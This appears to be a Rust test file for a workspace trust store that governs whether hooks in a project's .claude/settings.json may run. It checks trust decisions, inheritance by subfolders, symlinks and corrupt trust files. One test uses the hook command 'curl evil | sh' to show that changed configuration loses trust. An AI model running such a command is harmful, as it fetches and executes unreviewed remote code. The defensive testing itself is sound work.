//! Decisions, inheritance and the trust file.

use hostler_driver::{ConfigurationKind, FolderConfiguration};

use super::*;

/// A configuration of one hook.
fn hook(command: &str) -> WorkspaceConfiguration {
    let item = ConfigurationItem {
        kind: ConfigurationKind::Hook,
        name: "SessionStart".to_owned(),
        source: ".claude/settings.json".to_owned(),
        hash: command.to_owned(),
        blocked: None,
    };
    WorkspaceConfiguration { fingerprint: command.to_owned(), items: vec![item], ..Default::default() }
}

struct Machine {
    dir: tempfile::TempDir,
    trusted_folders: Vec<PathBuf>,
}

impl Machine {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        for name in ["state", "home/project/sub"] {
            std::fs::create_dir_all(dir.path().join(name)).unwrap();
        }
        Self { dir, trusted_folders: Vec::new() }
    }

    fn store(&self) -> TrustStore {
        let options = TrustOptions { trusted_folders: self.trusted_folders.clone(), home: Some(self.path("home")) };
        TrustStore::open(&self.path("state"), &options)
    }

    fn path(&self, name: &str) -> PathBuf {
        std::fs::canonicalize(self.dir.path()).unwrap().join(name)
    }

    fn assess(&self, name: &str, command: &str) -> TrustAssessment {
        self.store().assess(&self.path(name), |_| hook(command)).unwrap()
    }

    fn decide(&self, name: &str, command: &str, decision: TrustDecision) -> Result<(), TrustError> {
        self.store().decide(&self.assess(name, command), decision, false)
    }

    fn state(&self, name: &str, command: &str) -> TrustState {
        self.assess(name, command).state
    }
}

#[test]
fn folder_is_undecided_until_a_decision_which_survives_a_restart() {
    let machine = Machine::new();
    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
    assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
    let applied = FolderConfiguration::Applied { fingerprint: "make".to_owned() };
    assert_eq!(machine.assess("home/project", "make").folder_configuration(), applied);
}

#[test]
fn changed_configuration_is_not_trusted_and_reports_the_difference() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
    let changed = machine.assess("home/project", "curl evil | sh");
    let TrustState::Changed(difference) = &changed.state else { panic!("{:?}", changed.state) };
    assert_eq!(difference.changed.len(), 1);
    assert_eq!(changed.folder_configuration(), FolderConfiguration::Ignored);
    machine.decide("home/project", "curl evil | sh", TrustDecision::Trust).unwrap();
    assert_eq!(machine.state("home/project", "curl evil | sh"), TrustState::Trusted(TrustedBy::Person));
    assert!(
        matches!(machine.state("home/project", "make"), TrustState::Changed(_)),
        "the old one is not trusted any more"
    );
}

#[test]
fn restriction_survives_a_configuration_change() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::Restrict).unwrap();
    assert_eq!(machine.state("home/project", "make"), TrustState::Restricted);
    assert_eq!(machine.state("home/project", "other"), TrustState::Restricted);
}

#[test]
fn subfolders_inherit_only_trust_subfolders_and_later_changes_are_detected() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
    assert_eq!(machine.state("home/project/sub", "make"), TrustState::Undecided);
    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
    let parent = TrustedBy::Parent(machine.path("home/project"));
    let inherited = machine.assess("home/project/sub", "ls");
    assert_eq!(inherited.state, TrustState::Trusted(parent.clone()));
    machine.store().record_inherited(&inherited).unwrap();
    assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Trusted(parent));
    assert!(matches!(machine.state("home/project/sub", "rm"), TrustState::Changed(_)));
    assert!(machine.store().remove(&machine.path("home/project")).unwrap());
    assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Undecided, "what was inherited is gone too");
}

#[test]
fn sibling_with_the_trusted_folder_name_as_prefix_inherits_nothing() {
    let machine = Machine::new();
    std::fs::create_dir_all(machine.path("home/project-evil")).unwrap();
    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
    assert_eq!(machine.state("home/project-evil", "make"), TrustState::Undecided);
}

#[test]
fn home_and_root_are_trusted_only_by_explicit_path_and_never_with_subfolders() {
    let machine = Machine::new();
    assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)), "no one is asked about it");
    assert!(matches!(machine.decide("home", "make", TrustDecision::Trust), Err(TrustError::TooBroad { .. })));
    let assessment = machine.assess("home", "make");
    let all = machine.store().decide(&assessment, TrustDecision::TrustSubfolders, true);
    assert!(matches!(all, Err(TrustError::TooBroadWithSubfolders { .. })));
    machine.store().decide(&assessment, TrustDecision::Trust, true).unwrap();
    assert_eq!(machine.state("home", "make"), TrustState::Trusted(TrustedBy::Person));
    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
    let root = machine.store().assess(Path::new("/"), |_| hook("make")).unwrap();
    assert!(matches!(machine.store().decide(&root, TrustDecision::Trust, false), Err(TrustError::TooBroad { .. })));
}

#[test]
fn host_configuration_trusts_listed_folders_and_subfolders_but_not_those_of_home() {
    let mut machine = Machine::new();
    machine.trusted_folders = vec![machine.path("home/project")];
    assert_eq!(machine.state("home/project/sub", "make"), TrustState::Trusted(TrustedBy::HostConfiguration));
    machine.trusted_folders = vec![machine.path("home")];
    assert_eq!(machine.state("home", "make"), TrustState::Trusted(TrustedBy::HostConfiguration));
    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
}

#[cfg(unix)]
#[test]
fn link_to_a_trusted_folder_is_trusted_until_its_target_changes() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
    let link = machine.path("link");
    std::os::unix::fs::symlink(machine.path("home/project"), &link).unwrap();
    assert_eq!(machine.state("link", "make"), TrustState::Trusted(TrustedBy::Person));
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(machine.path("home/project/sub"), &link).unwrap();
    assert_eq!(machine.state("link", "make"), TrustState::Undecided);
}

#[test]
fn unreadable_trust_file_trusts_nothing_and_is_not_overwritten() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
    let store = machine.store();
    let file = machine.path("state").join(TRUST_FILE_NAME);
    std::fs::write(&file, "folder = nonsense").unwrap();
    let assessment = store.assess(&machine.path("home/project"), |_| hook("make")).unwrap();
    assert!(matches!(assessment.state, TrustState::Refused(_)), "{:?}", assessment.state);
    assert!(matches!(machine.state("home/project", "make"), TrustState::Refused(_)), "after a restart too");
    assert!(matches!(store.decide(&assessment, TrustDecision::Trust, true), Err(TrustError::File(_))));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "folder = nonsense");
}

#[test]
fn invalid_configuration_cannot_be_trusted() {
    let machine = Machine::new();
    let broken = WorkspaceConfiguration { problem: Some("settings.json is not JSON".to_owned()), ..hook("make") };
    let assessment = machine.store().assess(&machine.path("home/project"), |_| broken).unwrap();
    assert!(matches!(assessment.state, TrustState::Refused(_)));
    let decided = machine.store().decide(&assessment, TrustDecision::Trust, true);
    assert!(matches!(decided, Err(TrustError::InvalidConfiguration { .. })));
}

#[test]
fn folder_without_configuration_needs_no_decision() {
    let machine = Machine::new();
    let empty = machine.store().assess(&machine.path("home"), |_| WorkspaceConfiguration::default()).unwrap();
    assert_eq!(empty.state, TrustState::Empty);
    let missing = machine.store().assess(&machine.path("nowhere"), |_| WorkspaceConfiguration::default());
    assert!(matches!(missing, Err(TrustError::NotAFolder { .. })));
}

#[test]
fn restricting_a_parent_revokes_inherited_trust() {
    for decision in [TrustDecision::Restrict, TrustDecision::Trust] {
        let machine = Machine::new();
        machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
        machine.store().record_inherited(&machine.assess("home/project/sub", "ls")).unwrap();
        let before = std::fs::read_to_string(machine.path("state").join(TRUST_FILE_NAME)).unwrap();
        machine.decide("home/project", "make", decision).unwrap();
        let state = machine.state("home/project/sub", "ls");
        assert!(matches!(state, TrustState::Restricted | TrustState::Undecided), "{decision:?}: {state:?}");
        assert_eq!(machine.store().entries().unwrap().len(), 1, "nothing is listed as inherited");
        // A file that still contains entries that inherited.
        std::fs::write(machine.path("state").join(TRUST_FILE_NAME), before.replace("trustSubfolders", "trust"))
            .unwrap();
        assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Undecided);
    }
}

#[test]
fn nearest_parent_decides_and_its_restriction_applies_to_subfolders() {
    let mut machine = Machine::new();
    std::fs::create_dir_all(machine.path("home/project/sub/deep")).unwrap();
    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
    machine.store().record_inherited(&machine.assess("home/project/sub/deep", "ls")).unwrap();
    machine.decide("home/project/sub", "make", TrustDecision::Restrict).unwrap();
    assert_eq!(machine.state("home/project/sub/deep", "ls"), TrustState::Restricted);
    machine.trusted_folders = vec![machine.path("home/project")];
    assert_eq!(machine.state("home/project/sub/deep", "other"), TrustState::Restricted);
    machine.trusted_folders = vec![machine.path("home/project/sub")];
    assert_eq!(machine.state("home/project/sub/deep", "other"), TrustState::Restricted);
    machine.decide("home/project/sub/deep", "ls", TrustDecision::Trust).unwrap();
    assert_eq!(machine.state("home/project/sub/deep", "ls"), TrustState::Trusted(TrustedBy::Person));
}

#[test]
fn removing_a_subfolder_decision_trusts_nothing_new() {
    for noted in [true, false] {
        let machine = Machine::new();
        machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
        match noted {
            true => machine.store().record_inherited(&machine.assess("home/project/sub", "ls")).unwrap(),
            false => machine.decide("home/project/sub", "ls", TrustDecision::Trust).unwrap(),
        }
        assert!(matches!(machine.state("home/project/sub", "rm"), TrustState::Changed(_)));
        let sub = machine.path("home/project/sub");
        assert!(machine.store().remove(&sub).unwrap());
        assert_eq!(machine.state("home/project/sub", "rm"), TrustState::Restricted);
        let again = machine.store().remove(&sub).unwrap_err();
        assert!(matches!(&again, TrustError::BelowTrusted { parent, .. } if *parent == machine.path("home/project")));
        assert!(machine.store().remove(&machine.path("home/project")).unwrap());
        assert!(machine.store().remove(&sub).unwrap(), "there is no parent any more");
        assert_eq!(machine.state("home/project/sub", "rm"), TrustState::Undecided);
    }
}

#[test]
fn parent_of_the_home_folder_is_too_broad() {
    let mut machine = Machine::new();
    let above = machine.assess("", "make");
    assert!(matches!(above.state, TrustState::Refused(_)), "{:?}", above.state);
    let all = machine.store().decide(&above, TrustDecision::TrustSubfolders, true);
    assert!(matches!(all, Err(TrustError::TooBroadWithSubfolders { .. })));
    machine.trusted_folders = vec![machine.path("")];
    assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)));
    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
    assert_eq!(machine.state("", "make"), TrustState::Trusted(TrustedBy::HostConfiguration), "it is named");
    machine.trusted_folders.clear();
    // A decision that an older version stored, or that was edited by hand.
    machine.store().decide(&above, TrustDecision::Trust, true).unwrap();
    let file = machine.path("state").join(TRUST_FILE_NAME);
    let text = std::fs::read_to_string(&file).unwrap().replace("\"trust\"", "\"trustSubfolders\"");
    assert!(text.contains("trustSubfolders"), "{text}");
    std::fs::write(&file, text).unwrap();
    assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)));
    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
}

#[test]
fn record_inherited_does_not_overwrite_a_newer_decision() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
    let assessed = machine.assess("home/project/sub", "ls");
    machine.decide("home/project/sub", "ls", TrustDecision::Restrict).unwrap();
    assert!(matches!(machine.store().record_inherited(&assessed), Err(TrustError::Changed { .. })));
    assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Restricted);
    machine.decide("home/project/sub", "ls", TrustDecision::Trust).unwrap();
    let parent = machine.assess("home/project", "make");
    machine.store().record_inherited(&parent).unwrap();
    assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
}

#[test]
fn decision_over_the_file_size_limit_is_refused_and_others_remain() {
    let machine = Machine::new();
    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
    let huge = || {
        let mut configuration = hook("make");
        configuration.items[0].name = "x".repeat(5 * 1024 * 1024);
        configuration
    };
    let store = machine.store();
    let assessment = store.assess(&machine.path("home/project/sub"), |_| huge()).unwrap();
    let refused = store.decide(&assessment, TrustDecision::Trust, false).unwrap_err().to_string();
    assert!(refused.contains("larger than 4 MiB"), "{refused}");
    assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
    store.decide(&assessment, TrustDecision::Restrict, false).unwrap();
    assert_eq!(machine.state("home/project/sub", "make"), TrustState::Restricted);
}
